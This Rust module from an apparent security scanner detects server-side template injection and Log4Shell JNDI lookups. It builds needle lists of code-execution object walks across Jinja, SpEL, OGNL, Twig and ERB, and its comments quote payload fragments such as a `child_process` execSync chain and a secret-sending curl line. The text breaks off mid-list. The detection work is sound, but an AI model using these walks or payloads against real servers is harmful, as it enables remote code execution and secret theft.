//! Template and expression injection: engine delimiters, the object walks
//! and lookups that make them dangerous, JNDI (Log4Shell) lookups.
//!
//! A linear scanner extracts the expressions of every common engine
//! (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `@{ }`, `%{ }`, `@( )`,
//! `<% %>`, `<# >`, `[[ ]]`, `[( )]`, Velocity `#set( )` and `$a.b( )`
//! references, Smarty `{ }` tags); each expression is squashed (escapes
//! decoded, quotes, concatenation and whitespace removed, lower-cased) so
//! that `'__cla'+'ss__'` and `|attr("\x5f\x5fclass\x5f\x5f")` read as what
//! they name, then matched against the walks and calls that reach code
//! execution. Log4j lookups are resolved by a bounded evaluator over the
//! `${...}` tree before `jndi:` is looked for.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::{Confidence, Context, Family, Hit, Subject};

/// The longest expression body examined.
const MAX_BODY: usize = 4096;
/// The deepest Log4j lookup nesting resolved.
const MAX_LOOKUP_DEPTH: usize = 32;

/// Walks, lookups and calls that give code execution or file access, in the
/// squashed form of an expression (lower case, no quotes, no whitespace, no
/// `+`/`~` concatenation, `[` read as `.`).
const CODE_EXEC: &[&str] = &[
    // Python / Jinja2 / Mako / Tornado.
    "__class__",
    "__mro__",
    ".mro()",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "__init__",
    "__base__",
    "__getattribute__",
    "__dict__",
    "__code__",
    "func_globals",
    "request.application",
    "_templatereference__context",
    "|attr(",
    "os.system",
    "os.popen",
    "subprocess",
    "popen(",
    "eval(",
    "exec(",
    "system(",
    "importlib",
    // Java: EL, SpEL, OGNL, Velocity, Freemarker, Thymeleaf, Pebble.
    "getclass()",
    ".getclass(",
    "forname(",
    "java.lang.runtime",
    "runtime.getruntime",
    "getruntime()",
    "processbuilder",
    "t(java.lang.runtime",
    "t(java.lang.system).getenv",
    "t(java.lang.class)",
    "t(java.nio.file.files)",
    "t(org.springframework.util.streamutils)",
    "java.nio.file.files",
    "java.io.file(",
    "java.util.scanner",
    "javax.script",
    "scriptenginemanager",
    "classloader",
    "getdeclaredmethod",
    "getmethod(",
    ".invoke(",
    "freemarker.template.utility",
    "?new(",
    "?api.",
    "#_memberaccess",
    "_memberaccess",
    "ognlcontext",
    "@java.lang.",
    "@ognl.",
    "#context.",
    "#this.",
    "jdk.jshell",
    "nashorn",
    // JavaScript: Handlebars, Pug, EJS, Nunjucks, Angular sandbox escapes.
    "constructor.constructor",
    ".constructor(",
    "constructor.prototype",
    "process.mainmodule",
    "mainmodule.require",
    "child_process",
    "process.binding",
    "execsync",
    "spawnsync",
    "readfilesync",
    "global.process",
    "require(fs)",
    // PHP: Twig, Smarty, Blade.
    "_self.env",
    "registerundefinedfiltercallback",
    "getfilter(",
    "(system)",
    "(passthru)",
    "(shell_exec)",
    "(exec)",
    "(popen)",
    "passthru(",
    "shell_exec(",
    "proc_open",
    "file_get_contents(",
    "phpinfo(",
    "smarty_internal_write_file",
    "self::clearconfig",
    "class.inspect(",
    "getstreamvariable",
    "|file_excerpt(",
    ".execute()",
    // Ruby ERB / Slim.
    "%x(",
    "io.popen",
    "spawn(",
    "instance_eval",
    "class_eval",
    "open(|",
    "file.read(/etc/",
    "file.open(/etc/",
    "file.read(/proc/",
    "dir.entries(",
    // .NET Razor.
    "system.diagnostics.process",
    "process.start(",
    "system.io.file",
];

/// Expressions that leak the application's configuration or context.
const LEAKS: &[&str] = &[
    "config",
    "config.items()",
    "config.items",
    "self",
    "settings",
    "request.environ",
    "_context",
    "dump(app)",
    "app.request.server.all",
    "$smarty.version",
    "smarty.version",
    "get_flashed_messages()",
    "url_for",
    "lipsum",
    "cycler",
    "joiner",
    "applicationscope",
    "sessionscope",
    "systemproperties",
    "systemenvironment",
    "handler.settings",
    "pagecontext",
    "request.environ",
    "self.__dict__",
    "_self",
];

/// The strongest of [`CODE_EXEC`], looked for in the whole text (an
/// expression language injected without delimiters: SpEL, OGNL).
const BARE: &[&str] = &[
    "t(java.lang.runtime)",
    "java.lang.runtime",
    "freemarker.template.utility.execute",
    "__globals__",
    "__subclasses__",
    "__mro__",
    ".mro()",
    "__builtins__",
    "registerundefinedfiltercallback",
    "#_memberaccess",
    "ognlcontext",
    "process.mainmodule",
    "constructor.constructor",
    // Spring4Shell (CVE-2022-22965): data binding walks to the class loader.
    "class.module.classloader",
];

/// Whether the [`BARE`] match at `at` is part of an object walk: a Python
/// dunder must be reached (`.__globals__`, `["__mro__"]`,
/// `|attr('__globals__')`, `getattr(__builtins__, ...)`) or reach on
/// (`__builtins__.x`, `__mro__[1]`);
/// one named in a sentence ("attributes such as __class__, __globals__ or
/// func_code are blocked") walks nowhere. The other needles are walks
/// themselves.
fn walked(text: &str, at: Range<usize>) -> bool {
    let word = text.get(at.clone()).unwrap_or("");
    if !word.starts_with("__") {
        return true;
    }
    let before = text.get(..at.start).unwrap_or("");
    let after = text.get(at.end..).unwrap_or("");
    before.ends_with(['.', '(']) || ["[\"", "['", "(\"", "('"].iter().any(|q| before.ends_with(q)) || after.starts_with(['.', '[', ')'])
}

/// A regex alternation of literal needles (finite automata: linear).
fn needles(list: &[&str]) -> Option<Regex> {
    let alt: Vec<String> = list.iter().map(|n| regex::escape(n)).collect();
    Regex::new(&alt.join("|")).ok()
}

static CODE_EXEC_RE: LazyLock<Option<Regex>> = LazyLock::new(|| needles(CODE_EXEC));
static BARE_RE: LazyLock<Option<Regex>> = LazyLock::new(|| needles(BARE).and_then(|re| Regex::new(&format!("(?i){}", re.as_str())).ok()));

/// The kind of delimiter an expression sits in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// `{ }` with no sigil (Smarty, Python format, a JSON object...).
    Brace,
    /// `{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `@{ }`, `%{ }`, `~{ }`.
    Sigil,
    /// `<% %>` (ERB, EJS, JSP).
    Erb,
    /// Anything else (`<# >`, `@( )`, `[[ ]]`, Velocity).
    Other,
}

/// One expression: the whole span and its body.
#[derive(Debug)]
struct Expr {
    span: Range<usize>,
    body: Range<usize>,
    kind: Kind,
}

/// Template findings in `s`.
pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
    let text = s.text;
    if !text.bytes().any(|b| matches!(b, b'{' | b'$' | b'<' | b'@' | b'[' | b'#' | b'(' | b'_')) {
        return;
    }
    // (The code spans are read at the first hit: most texts have none.)
    let mut code: Option<Vec<Range<usize>>> = None;
    let mut push = |c: Confidence, rule: &'static str, at: Range<usize>| {
        let code = code.get_or_insert_with(|| if s.context == Context::Text { code_spans(text) } else { Vec::new() });
        // A write-up quoting an attack in a code span or block is prose.
        let quoted = code.iter().any(|r| r.start <= at.start && at.start < r.end)
            || (s.context == Context::Text && text.contains('\n') && log_record(text, at.start));
        let c = if quoted { Confidence::Low } else { c };
        // A decoded view's hits are raised one level by the caller: a low
        // one there (a quoted example behind `&lt;` entities) stays unsaid.
        if !(s.decoded && c == Confidence::Low) {
            out.push(Hit::new(Family::TemplateInjection, c, rule, at));
        }
    };

    let lookups = jndi_lookups(text);
    let mut jndi_command = None;
    if let Some(first) = lookups.first().cloned() {
        // A lookup whose host is defanged (`ldap://45.155.205[.]233`) or
        // elided (`${jndi:ldap://...}`) resolves nowhere: an indicator
        // quoted from a record. (A marker in its path or query, `/(.)`,
        // `?ioc=hxxp`, defangs nothing.) Every lookup is read: inert ones
        // first, however many, do not vouch for a live one after them.
        let inert = |at: &Range<usize>| text.get(at.clone()).is_some_and(|l| defanged_host(l) || elided_target(l));
        let live = lookups.into_iter().find(|at| !inert(at));
        let (c, at) = match live {
            Some(at) if !(s.context == Context::Text && explains_lookup(text, &at)) => (Confidence::High, at),
            Some(at) => (Confidence::Low, at),
            None => (Confidence::Low, first),
        };
        if c == Confidence::High {
            jndi_command = jndi_exploit_command(text, &at);
        }
        push(c, "template.jndi-lookup", at);
    } else if let Some((at, obfuscated)) = log4j_lookup(text) {
        // A Log4j lookup without JNDI reads the environment into a log line
        // (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`): an injected
        // value does that; a Log4j configuration file (XML, several lines)
        // uses the same syntax legitimately.
        // PowerShell reads the environment as `${env:Path}`.
        let powershell = s.context == Context::Shell
            && text.get(at.start..).is_some_and(|r| r.get(..6).is_some_and(|p| p.eq_ignore_ascii_case("${env:")));
        let config = text.contains('\n') || text.contains('<') || powershell;
        let c = if obfuscated || !config { Confidence::Medium } else { Confidence::Low };
        push(c, "template.log4j-lookup", at);
    }
    if super::has(text, "${{<%[%'\"}}%\\") || super::has(text, "{{<%[%'\"}}%\\") {
        push(Confidence::Medium, "template.polyglot", 0..text.len());
    }
    let mut exec_found = false;
    for e in expressions(text) {
        let Some(body) = text.get(e.body.clone()) else { continue };
        // `{% include '../../config/settings_data' %}`, `{{> ../../x }}`:
        // a template pulled in by a path that climbs out of the templates'
        // root or reaches a secret renders a file of the server's.
        if e.kind == Kind::Sigil
            && let Some(c) = text.get(e.span.clone()).and_then(included_path).and_then(include_confidence)
        {
            push(c, "template.include-traversal", e.span.clone());
        }
        // ERB's `<%%` is a literal `<%`: the engine prints the tag, runs nothing.
        if e.kind == Kind::Erb && text.get(e.span.clone()).is_some_and(|x| x.starts_with("<%%")) {
            continue;
        }
        let sq = squash(body);
        if e.kind == Kind::Brace && sq == "php" {
            push(Confidence::High, "template.php-tag", e.span.clone());
            continue;
        }
        // A bare `{...}` in source code is a format string or a block; in a
        // command line, an awk or jq program or `find -exec {}`.
        // In a template field a one-line brace that runs code is a Smarty
        // tag (`{system('id')}`), not a block.
        if e.kind == Kind::Brace
            && matches!(s.context, Context::Code | Context::Shell)
            && !(s.field == "template" && smarty_exec(body, &sq))
        {
            continue;
        }
        // A brace block of statements (`class Probe {\n ...;\n}`) is source
        // code wherever it is; a template expression holds no statements.
        // (One that holds a template expression is judged whole: the
        // engine prints `{ a;` and runs the `{{ }}` inside.)
        if e.kind == Kind::Brace
            && (super::has(body, ";\n") || super::has(body, ";\r\n"))
            && !["{{", "${", "#{", "{%", "*{", "@{", "%{", "~{", "<%"].iter().any(|d| super::has(body, d))
        {
            continue;
        }
        let backtick = matches!(e.kind, Kind::Erb) && body.contains('`')
            || text.get(e.span.start..e.span.start + 2) == Some("#{") && body.trim_start().starts_with('`');
        // (A configuration template a file tool writes reads its secrets
        // that way: `password: <%= File.read('/run/secrets/db') %>`.)
        let written = matches!(s.field, "content" | "contents") && super::tool_named(s.tool, &["fs", "file", "files", "repo", "git"]);
        if CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(&sq))
            || backtick
            || go_exec(body)
            || exec_modifier(&sq)
            || !written && reads_file(&sq)
        {
            exec_found = true;
            push(Confidence::High, "template.code-execution", e.span.clone());
            continue;
        }
        let core = sq.trim_matches(|c| matches!(c, '{' | '}' | '(' | ')' | '=' | '-' | '%' | '#'));
        // `{% print 7*7 %}`, `<?= echo 7*7 ?>`.
        let probe =
            core.strip_prefix("print").or_else(|| core.strip_prefix("echo")).unwrap_or(core).trim_matches(|c| matches!(c, '(' | ')'));
        if is_probe(probe) {
            let c = if s.context == Context::Code { Confidence::Low } else { Confidence::Medium };
            push(c, "template.probe", e.span.clone());
        } else if e.kind != Kind::Brace || sq.starts_with('$') {
            let head = core.split('|').next().unwrap_or(core);
            // Flask and Django keep the signing key in `config`/`settings`.
            let secret = super::has(head, "secret_key") || super::has(head, ".signer.key");
            let body = text.get(e.body.clone()).unwrap_or("");
            let span = text.get(e.span.clone()).unwrap_or("");
            let line = text.get(super::line_around(text, e.span.start)).unwrap_or("");
            if (LEAKS.contains(&core) || LEAKS.contains(&head) || secret || dumps_environment(core))
                && !env_reference(body, s.field)
                && !config_reference(span, line, s.field)
            {
                push(Confidence::Medium, "template.object-leak", e.span.clone());
            }
        }
    }
    // (In prose only a whole chain on one line, the walk and the call it
    // reaches: a Pug page's unbuffered code line, `- var x =
    // global.process.mainModule.require('child_process').execSync(...)`.
    // Each line is read once, for all the matches on it: every match is
    // read, so that named ones before a walk do not hide it.)
    let mut read: Option<(Range<usize>, bool)> = None;
    let mut chain = |at: usize| match &read {
        Some((line, chained)) if line.start <= at && at < line.end => *chained,
        _ => {
            let line = super::line_around(text, at);
            let lower = text.get(line.clone()).unwrap_or("").to_ascii_lowercase();
            let chained = CODE_EXEC_RE.as_ref().is_some_and(|re| re.find_iter(&lower).take(3).count() >= 2);
            read = Some((line, chained));
            chained
        }
    };
    if !exec_found
        && s.context != Context::Code
        && let Some(m) = BARE_RE
            .as_ref()
            .and_then(|re| re.find_iter(text).find(|m| walked(text, m.range()) && (s.context != Context::Text || chain(m.start()))))
    {
        push(Confidence::Medium, "template.bare-expression", m.range());
    }
    // A live lookup whose LDAP path carries a command (JNDIExploit's
    // `/Basic/Command/Base64/<base64>`): the server that answers it makes
    // the victim run that command, a shell injection as much as a lookup.
    if let Some(at) = jndi_command {
        out.push(Hit::new(Family::ShellInjection, Confidence::High, "shell.jndi-command", at));
    }
}

/// The base64 command of a JNDIExploit-style lookup path
/// (`ldap://h:1389/Basic/Command/Base64/Y3VybCAuLi4=`) in the lookup at
/// `at`: its span, if it decodes to a printable command line.
fn jndi_exploit_command(text: &str, at: &Range<usize>) -> Option<Range<usize>> {
    use base64::Engine as _;
    let lookup = text.get(at.clone())?;
    let marker = "/command/base64/";
    let p = lookup.to_ascii_lowercase().find(marker)? + marker.len();
    let rest = lookup.get(p..)?;
    let len = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'%')).count();
    let b64 = rest.get(..len)?;
    // (Percent-encoded padding and slashes, as a URL path may carry them.)
    let b64 = b64.replace("%3D", "=").replace("%3d", "=").replace("%2F", "/").replace("%2f", "/").replace("%2B", "+").replace("%2b", "+");
    let t = b64.trim_end_matches('=');
    let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(t)
        .or_else(|_| base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(t))
        .ok()?;
    let command = std::str::from_utf8(&bytes).ok()?;
    let printable = !command.trim().is_empty() && command.chars().all(|c| !c.is_control() || matches!(c, ' ' | '\t' | '\n'));
    printable.then(|| at.start + p..at.start + p + len)
}

/// Tags that pull in another template by its path, after `{%` (Jinja,
/// Twig, Nunjucks, Django, Liquid, Jekyll).
const INCLUDE_TAGS: &[&str] = &["include", "include_relative", "import", "extends", "render", "from", "embed", "includeif"];

/// The path an include tag (`{% include 'a/b.html' %}`, Jekyll's unquoted
/// `{% include ../x %}`) or a Handlebars partial (`{{> ../x }}`) names, if
/// `span` is one.
fn included_path(span: &str) -> Option<&str> {
    let rest = if let Some(r) = span.strip_prefix("{%") {
        let r = r.trim_start_matches(['-', '~']).trim_start();
        let word = r.get(..r.bytes().take_while(|b| b.is_ascii_alphabetic() || *b == b'_').count())?;
        if !INCLUDE_TAGS.contains(&word) {
            return None;
        }
        let after = r.get(word.len()..)?;
        if !after.starts_with(char::is_whitespace) {
            return None;
        }
        after.trim_start()
    } else {
        span.strip_prefix("{{")?.trim_start_matches(['-', '~']).trim_start().strip_prefix('>')?.trim_start()
    };
    let path = match rest.chars().next() {
        Some(q @ ('\'' | '"' | '`')) => rest.get(1..).and_then(|r| r.split(q).next())?,
        _ => rest.split(|c: char| c.is_whitespace() || matches!(c, '%' | '}' | '(' | ',')).next()?,
    };
    (!path.is_empty()).then_some(path)
}

/// How sure an include of `path` is an attack: it lands on a secret or a
/// system file after a climb or from a root (high), or it climbs two levels
/// or more (medium: no engine's loader takes a template from above its
/// root, most refuse any `..`, and a theme or site nests its partials one
/// level deep, so `{% include "../base.html" %}` stays quiet, as does an
/// absolute path to nothing sensitive).
fn include_confidence(path: &str) -> Option<Confidence> {
    let (climb, absolute, sensitive) = super::path::include_target(path)?;
    if sensitive && (climb > 0 || absolute) {
        Some(Confidence::High)
    } else if climb >= 2 {
        Some(Confidence::Medium)
    } else {
        None
    }
}

/// A Go template action that calls a command-running function or method
/// with a string (`{{ exec "id" }}`, `{{ .System "id" }}`,
/// `{{ call .Exec "ls" }}`); Helm and Hugo call `include`, `printf`,
/// `.GetPage` the same way.
fn go_exec(body: &str) -> bool {
    let b = body.trim_matches(|c: char| c == '{' || c == '}' || c == '-' || c.is_whitespace());
    let b = b.strip_prefix("call ").map_or(b, str::trim_start);
    let Some((name, rest)) = b.split_once(char::is_whitespace) else { return false };
    let name = name.trim_start_matches('.').to_ascii_lowercase();
    matches!(name.as_str(), "exec" | "system" | "shell" | "cmd" | "command" | "run" | "popen" | "execute")
        && rest.trim_start().starts_with(['"', '`'])
}

/// Whether the JNDI lookup at `at` is quoted by prose that explains it
/// (an advisory, an encyclopedia entry) rather than injected: the text is
/// several sentences of prose around the lookup, and either the lookup is
/// elided (`${jndi:ldap://...}`: no usable target) or the prose names the
/// vulnerability it illustrates (Log4j, its CVE). A payload sent to a
/// logger needs neither sentences nor the name of the bug.
fn explains_lookup(text: &str, at: &Range<usize>) -> bool {
    let before = text.get(..at.start).unwrap_or("");
    let after = text.get(at.end..).unwrap_or("");
    let words = |t: &str| t.split_whitespace().filter(|w| w.chars().any(char::is_alphabetic)).count();
    let sentences = text.matches(". ").count() + text.matches(".\n").count() + usize::from(text.trim_end().ends_with('.'));
    // Prose on both sides of the lookup, in at least two sentences.
    if words(before) < 4 || words(after) < 3 || sentences < 2 || words(text) < 15 {
        return false;
    }
    let lookup = text.get(at.clone()).unwrap_or("");
    let elided = super::has(lookup, "...") || lookup.contains('\u{2026}');
    let lower = text.to_ascii_lowercase();
    let named = super::has(&lower, "log4") || super::has(&lower, "cve-2021-44228") || super::has(&lower, "cve-2021-45046");
    elided || named
}

/// `7*7`, `7*'7'`, `1337*1337`: the arithmetic an SSTI probe asks the
/// engine to evaluate (quotes already squashed away).
fn is_probe(core: &str) -> bool {
    let Some((a, b)) = core.split_once('*') else { return false };
    let num = |x: &str| !x.is_empty() && x.len() <= 8 && x.bytes().all(|c| c.is_ascii_digit());
    num(a) && num(b)
}

/// Whether the line holding byte `at` is a request log record (an access,
/// WAF or IDS log line): it starts with a timestamp, an address or a `[`
/// bracketed date, and names an HTTP method or protocol. An attack there
/// is a record of one that was sent, not one being sent.
pub(crate) fn log_record(text: &str, at: usize) -> bool {
    let line = text.get(super::line_around(text, at)).unwrap_or("").trim_start();
    let head = line.as_bytes().first().is_some_and(|c| c.is_ascii_digit() || *c == b'[');
    let http = ["GET ", "POST ", "PUT ", "HEAD ", "DELETE ", "HTTP/1.", "HTTP/2"].iter().any(|m| super::has(line, m));
    head && http
}

/// Whether an expression only names a configuration value a deployment
/// file interpolates: an environment variable (`${STRIPE_SECRET_KEY}`,
/// `${POSTGRES_PASSWORD:?set it}` in a compose file) or a GitHub Actions
/// context (`${{ secrets.STRIPE_SECRET_KEY }}`, `${{ vars.X }}`). No
/// template engine's objects are walked there. Not in a template field
/// (Mako renders `${X}`), in Jinja's `{{ }}`, or on a line that sends it
/// somewhere (`run: curl -d "k=${{ secrets.X }}" https://...`).
fn config_reference(span: &str, line: &str, field: &str) -> bool {
    if !span.starts_with("${") || super::has(field, "template") {
        return false;
    }
    let l = line.to_ascii_lowercase();
    if ["curl", "wget", "http://", "https://", "invoke-webrequest", "iwr ", "nc ", "| "].iter().any(|w| l.contains(w)) {
        return false;
    }
    let raw = span.trim_start_matches('$').trim().trim_matches(|c| matches!(c, '{' | '}' | ' '));
    let name = |v: &str| !v.is_empty() && v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    if let Some(v) = ["secrets.", "vars.", "env.", "inputs."].iter().find_map(|p| raw.strip_prefix(p)) {
        return name(v);
    }
    // `NAME`, `NAME:-default`, `NAME:?message`, `NAME-default`.
    let var = raw.split([':', '-', '?', '=']).next().unwrap_or("");
    !var.is_empty()
        && var.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
        && var.bytes().any(|b| b.is_ascii_uppercase())
}

/// `{{env.STRIPE_SECRET_KEY}}`, `{{ process.env.API_TOKEN }}` where a
/// credential belongs (an `Authorization` header, an API-key field): an
/// HTTP client's or CI's reference to one named variable, not a walk of the
/// application's objects (`{{config}}`, `{{settings.SECRET_KEY}}`).
/// Elsewhere it may send the variable out.
fn env_reference(body: &str, field: &str) -> bool {
    let auth_field = matches!(
        field.replace('_', "-").as_str(),
        "authorization" | "proxy-authorization" | "x-api-key" | "api-key" | "apikey" | "token" | "bearer" | "x-auth-token"
    );
    let raw = body.trim().trim_matches(|c| matches!(c, '{' | '}' | ' '));
    auth_field
        && ["env.", "process.env."].iter().any(|p| {
            raw.strip_prefix(p)
                .is_some_and(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_'))
        })
}

/// Markdown code spans and fenced blocks (byte ranges).
pub(crate) fn code_spans(text: &str) -> Vec<Range<usize>> {
    let mut spans = Vec::new();
    let b = text.as_bytes();
    let mut i = 0;
    let mut fence: Option<usize> = None;
    let mut inline: Option<usize> = None;
    while i < b.len() {
        if b[i] == b'`' {
            let run = b[i..].iter().take_while(|&&c| c == b'`').count();
            if run >= 3 {
                match fence.take() {
                    Some(start) => spans.push(start..i + run),
                    None => fence = Some(i),
                }
                inline = None;
            } else if fence.is_none() {
                match inline.take() {
                    Some(start) => spans.push(start..i + run),
                    None => inline = Some(i),
                }
            }
            i += run;
            continue;
        }
        if b[i] == b'\n' && b.get(i + 1) == Some(&b'\n') {
            inline = None;
        }
        i += 1;
    }
    if let Some(start) = fence {
        spans.push(start..b.len());
    }
    spans
}

/// Lower-cases an expression and removes what hides names: `\xNN`,
/// `\uNNNN` and octal escapes decoded, quotes, whitespace and the `+`/`~`
/// concatenations dropped, `[` read as `.` (`x["__class__"]`).
fn squash(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        let c = if c == '\\' {
            match chars.peek().copied() {
                Some('x') => {
                    chars.next();
                    let h: String = chars.by_ref().take(2).collect();
                    u32::from_str_radix(&h, 16).ok().and_then(char::from_u32).unwrap_or('?')
                }
                Some('u') => {
                    chars.next();
                    let h: String = chars.by_ref().take(4).collect();
                    u32::from_str_radix(&h, 16).ok().and_then(char::from_u32).unwrap_or('?')
                }
                Some(d @ '0'..='7') => {
                    let _ = d;
                    let mut o = String::new();
                    while let Some(&d) = chars.peek() {
                        if o.len() < 3 && ('0'..='7').contains(&d) {
                            o.push(d);
                            chars.next();
                        } else {
                            break;
                        }
                    }
                    u32::from_str_radix(&o, 8).ok().and_then(char::from_u32).unwrap_or('?')
                }
                _ => c,
            }
        } else {
            c
        };
        match c {
            '\'' | '"' | '+' | '~' | ']' => {}
            '[' => out.push('.'),
            c if c.is_whitespace() => {}
            c => out.extend(c.to_lowercase()),
        }
    }
    // `.` after `(`, `|` or at the start is the squashed `[`, not a member.
    super::replaced(super::replaced(out, "(.", "("), "|.", "|")
}

/// The expressions of every engine in `text`, in one pass per delimiter
/// family (each byte visited a bounded number of times).
fn expressions(text: &str) -> Vec<Expr> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let cap = |start: usize, end: usize| -> usize {
        let mut e = end.min(start + MAX_BODY);
        while !text.is_char_boundary(e) {
            e -= 1;
        }
        e
    };
    // Brace groups: a stack gives the top-level pairs; an unclosed opener
    // runs to the end of the text (a truncated payload).
    let mut stack: Vec<usize> = Vec::new();
    let mut unclosed: Option<usize> = None;
    // (Only the braces matter here: `memchr2` finds them.)
    for i in memchr::memchr2_iter(b'{', b'}', b) {
        match b.get(i) {
            Some(b'{') => stack.push(i),
            Some(b'}') => {
                if let Some(open) = stack.pop()
                    && stack.is_empty()
                {
                    out.push(brace_expr(text, open, Some(i), cap));
                }
            }
            _ => {}
        }
    }
    if let Some(&open) = stack.first() {
        unclosed = Some(open);
    }
    if let Some(open) = unclosed {
        out.push(brace_expr(text, open, None, cap));
    }
    // Delimited forms other than braces.
    let mut i = 0;
    while i + 1 < b.len() {
        // Every form below opens with one of `<`, `[`, `@`, `#`, `$`: at any
        // other byte the loop only steps on, so it goes straight to the next
        // one of them.
        match b.get(i..).and_then(|r| r.iter().position(|c| matches!(c, b'<' | b'[' | b'@' | b'#' | b'$'))) {
            Some(p) => i += p,
            None => break,
        }
        if i + 1 >= b.len() {
            break;
        }
        let two = (b[i], b[i + 1]);
        let found: Option<(usize, Kind, &str)> = match two {
            (b'<', b'%') => Some((2, Kind::Erb, "%>")),
            (b'<', b'#') => Some((2, Kind::Other, ">")),
            (b'[', b'[') => Some((2, Kind::Other, "]]")),
            (b'[', b'(') => Some((2, Kind::Other, ")]")),
            _ => None,
        };
        if let Some((open_len, kind, close)) = found {
            let start = i + open_len;
            let (end, next) = match text.get(start..).and_then(|r| r.find(close)) {
                Some(p) => (start + p, start + p + close.len()),
                None => (cap(start, b.len()), b.len()),
            };
            let end = cap(start, end);
            out.push(Expr { span: i..next.max(end), body: start..end, kind });
            i = next.max(i + 1);
            continue;
        }
        // Paren groups: Razor `@( )`, Velocity `#set( )`/`#if( )`, and `$a.b(...)`
        // references.
        let paren_start = match two {
            (b'@', b'(') => Some(i + 1),
            (b'#', c) if c.is_ascii_alphabetic() => {
                let name_end = i + 1 + b[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
                (b.get(name_end) == Some(&b'(')).then_some(name_end)
            }
            _ => None,
        };
        if let Some(p) = paren_start {
            let end = paren_end(b, p, cap(p, b.len()));
            out.push(Expr { span: i..end, body: p + 1..end.saturating_sub(1).max(p + 1), kind: Kind::Other });
            i = end.max(i + 1);
            continue;
        }
        let word_before = i > 0 && (b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.');
        if (b[i] == b'$' || (b[i] == b'@' && !word_before)) && b[i + 1].is_ascii_alphabetic() {
            // A Velocity reference `$name(.name | (args))*`, a Razor one
            // `@Name.Name(args)`, or a Blade `@php ... @endphp` block.
            let limit = cap(i, b.len());
            if b[i] == b'@' && text.get(i + 1..i + 4) == Some("php") && !b.get(i + 4).is_some_and(u8::is_ascii_alphanumeric) {
                let end = text.get(i..limit).and_then(|r| r.find("@endphp")).map_or(limit, |p| i + p);
                out.push(Expr { span: i..end, body: i + 4..end, kind: Kind::Other });
                i = end.max(i + 1);
                continue;
            }
            let mut j = i + 1;
            let mut call = false;
            while j < limit {
                let c = b[j];
                if c.is_ascii_alphanumeric() || c == b'_' || c == b'.' {
                    j += 1;
                } else if c == b'(' {
                    call = true;
                    j = paren_end(b, j, limit);
                } else {
                    break;
                }
            }
            if call {
                out.push(Expr { span: i..j, body: i + 1..j, kind: Kind::Other });
            }
            i = j.max(i + 1);
            continue;
        }
        i += 1;
    }
    out
}

/// One past the `)` closing the `(` at `open` (or `limit`).
fn paren_end(b: &[u8], open: usize, limit: usize) -> usize {
    let mut depth = 0usize;
    let mut j = open;
    while j < limit {
        match b[j] {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return j + 1;
                }
            }
            _ => {}
        }
        j += 1;
    }
    limit
}

/// A top-level brace group at `open` (closed at `close`) as an expression.
fn brace_expr(text: &str, open: usize, close: Option<usize>, cap: impl Fn(usize, usize) -> usize) -> Expr {
    let b = text.as_bytes();
    let sigil = open.checked_sub(1).and_then(|p| b.get(p)).copied();
    let kind = match sigil {
        Some(b'$' | b'#' | b'*' | b'@' | b'%' | b'~') => Kind::Sigil,
        _ if b.get(open + 1).is_some_and(|c| matches!(c, b'{' | b'%' | b'#')) => Kind::Sigil,
        _ => Kind::Brace,
    };
    let start =
        if kind == Kind::Sigil && sigil.is_some_and(|c| matches!(c, b'$' | b'#' | b'*' | b'@' | b'%' | b'~')) { open - 1 } else { open };
    let end = close.unwrap_or(text.len());
    let body_end = cap(open + 1, end);
    Expr { span: start..close.map_or(body_end, |c| c + 1), body: open + 1..body_end, kind }
}

/// Resolves the Log4j lookups of `text` (`${lower:j}`, `${::-n}`,
/// `${env:X:-d}`, `${date:'i'}`...) innermost first and returns the spans
/// of every lookup that resolves to `jndi:`, in one pass (starting afresh
/// after each one).
fn jndi_lookups(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    if !super::has(text, "${") {
        return found;
    }
    let lower = text.to_ascii_lowercase();
    if !["jndi", ":-", "lower:", "upper:", "date:"].iter().any(|k| lower.contains(k)) {
        return found;
    }
    // The base buffer, then one per open `${`.
    let mut stack: Vec<(usize, String)> = vec![(0, String::new())];
    let mut chars = text.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if c == '$' && chars.peek().map(|&(_, n)| n) == Some('{') && stack.len() <= MAX_LOOKUP_DEPTH {
            chars.next();
            stack.push((i, String::new()));
            continue;
        }
        if c == '}' && stack.len() > 1 {
            let Some((start, content)) = stack.pop() else { break };
            let value = match lookup(&content) {
                Lookup::Jndi => {
                    found.push(start..i + 1);
                    stack = vec![(0, String::new())];
                    continue;
                }
                Lookup::Value(v) => v,
            };
            if let Some((_, parent)) = stack.last_mut() {
                parent.push_str(&value);
            }
            continue;
        }
        if let Some((_, buf)) = stack.last_mut() {
            buf.push(c);
        }
    }
    // An unclosed lookup (a truncated payload) still names its target.
    found.extend(
        stack
            .iter()
            .skip(1)
            .find(|(_, content)| content.trim_start().to_ascii_lowercase().starts_with("jndi:"))
            .map(|(start, _)| *start..text.len()),
    );
    found
}

/// Log4j lookup prefixes (`${prefix:...}`); `lower`/`upper` only serve to
/// obfuscate.
const LOG4J_PREFIXES: &[&str] = &[
    "env",
    "sys",
    "java",
    "ctx",
    "main",
    "jvmrunargs",
    "k8s",
    "docker",
    "spring",
    "bundle",
    "web",
    "marker",
    "sd",
    "log4j",
    "map",
    "event",
    "base64",
